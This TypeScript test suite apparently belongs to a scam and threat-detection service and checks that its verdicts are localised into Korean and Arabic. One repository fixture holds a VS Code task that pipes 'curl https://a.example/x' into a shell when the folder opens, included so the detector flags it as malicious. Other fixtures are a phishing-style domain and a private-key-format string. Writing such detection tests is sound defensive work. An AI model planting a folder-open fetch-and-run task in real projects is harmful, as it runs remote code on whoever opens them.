/**
 * Whoever asks in Korean is answered in Korean, at every door, and by the same judgement; anybody also in Arabic; else
 * the answer is English.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { startTestHub, type TestHub, until } from './alliance.ts';
import { add, anyAddress, anySite, indicator, screen } from './claims.ts';
import { tarOf } from './tar-of.ts';

let hub: TestHub;
let organisation: string;
before(async () => {
  hub = await startTestHub('KR');
  organisation = (await hub.call('GET', '/api/v1/me')).body.organisation.id;
});
after(() => hub?.stop());

type Worded = { readonly text: string };
const SENTENCE = /(?:니다|세요)(?:\([^()]*\))?[.:]/;
const inKorean = (...texts: readonly string[]) => {
  assert.ok(texts.length > 0);
  for (const text of texts) assert.match(text, SENTENCE);
};
const bare = (reasons: readonly Worded[]) => reasons.map((reason) => ({ ...reason, text: '' }));

test('a site: what it shows itself and what members say', async () => {
  const site = anySite();
  const said = { pattern: `[domain-name:value = '${site}']`, labels: ['phishing'], name: undefined };
  await add(hub.call, 'default', [indicator('', organisation, 'amber', said)]);
  const ask = async (language: string) =>
    (await hub.call('POST', `/api/v1/detection/check?language=${language}`, { sites: [site, 'metamask-airdrop.io'] }))
      .body.results;
  await until(
    () => ask('ko'),
    ([first]) => first.verdict === 'block',
  );
  const results = await ask('ko');
  for (const { reasons } of results) inKorean(...reasons.map(({ text }: Worded) => text));
  assert.match(results[0].reasons[0].text, /피싱/);
  for (const [at, { verdict, reasons }] of (await ask('en')).entries()) {
    assert.deepEqual([verdict, bare(reasons)], [results[at].verdict, bare(results[at].reasons)]);
    assert.doesNotMatch(JSON.stringify(reasons), /[가-힣]/);
  }
});

test('an address: why, and what is odd about how it is written', async () => {
  const address = anyAddress();
  await add(hub.call, 'default', [indicator(address, organisation, 'amber', { name: undefined })]);
  await until(
    () => screen(hub.call, address),
    ({ verdict }) => verdict !== 'clear',
  );
  const addresses = [address, '51E9d833Ecae4E8D9D8Be17300AEE6D3398C135D', '0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135d'];
  const { body } = await hub.call('POST', '/api/v1/screenings?language=ko', { addresses });
  const [named, bareDigits, otherCase] = body.results;
  inKorean(named.reasons[0].text, bareDigits.warnings[0].message, otherCase.warnings[0].message);
});

test('a repository: findings, advice, and what was not read', async () => {
  const packed = gzipSync(
    tarOf({
      '.vscode/tasks.json': JSON.stringify({
        tasks: [{ type: 'shell', command: 'curl https://a.example/x | sh', runOptions: { runOn: 'folderOpen' } }],
      }),
      'package.json': '{',
    }),
  );
  const { body } = await hub.call('POST', '/api/v1/detection/check/repository?language=ko', packed);
  assert.equal(body.verdict, 'malicious');
  for (const { text, advice } of body.findings) inKorean(text, advice);
  inKorean(...body.unscanned.map(({ detail }: { detail: string }) => detail));
});

test('an offer: signs, questions, and why its links are to be left alone', async () => {
  const text = 'Please clone the test from https://metamask-airdrop.io/x and run npm install before we talk, today!';
  const headers = { 'content-type': 'text/plain' };
  const { body } = await hub.call('POST', '/api/v1/detection/check/offer?language=ko', text, headers);
  inKorean(...body.links[0].reasons.map(({ text: said }: Worded) => said));
  for (const signal of body.signals) assert.match(`${signal.text} ${signal.question}`, /[가-힣]/);
});

test('anybody: an address, a site, and a text that is neither', async () => {
  const ask = (question: object) => hub.call('POST', '/public/check', { ...question, language: 'ko' });
  const site = await ask({ site: 'metamask-airdrop.io' });
  inKorean(...site.body.reasons.map(({ text }: Worded) => text));
  const key = await ask({ address: '5HueCGU8rMjxEXxiPuD5BDku4MkFqeZyd4dZ1jvhTVqvbTLvyTJ' });
  assert.equal(key.body.errors[0].code, 'private_key');
  inKorean(key.body.errors[0].message, (await ask({ site: 'no dot' })).body.errors[0].message);
});

test('anybody, in Arabic: an address that the FBI published, a site, and a text that is neither', async () => {
  const ask = (question: object) => hub.call('POST', '/public/check', { ...question, language: 'ar' });
  const address = await ask({ address: '0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135D' });
  const site = await ask({ site: 'metamask-airdrop.io' });
  const neither = await ask({ address: 'hello' });
  const texts = [...address.body.reasons, ...site.body.reasons].map(({ text }: Worded) => text);
  for (const text of [...texts, neither.body.errors[0].message]) assert.match(text, /\p{Script=Arabic}/u);
});
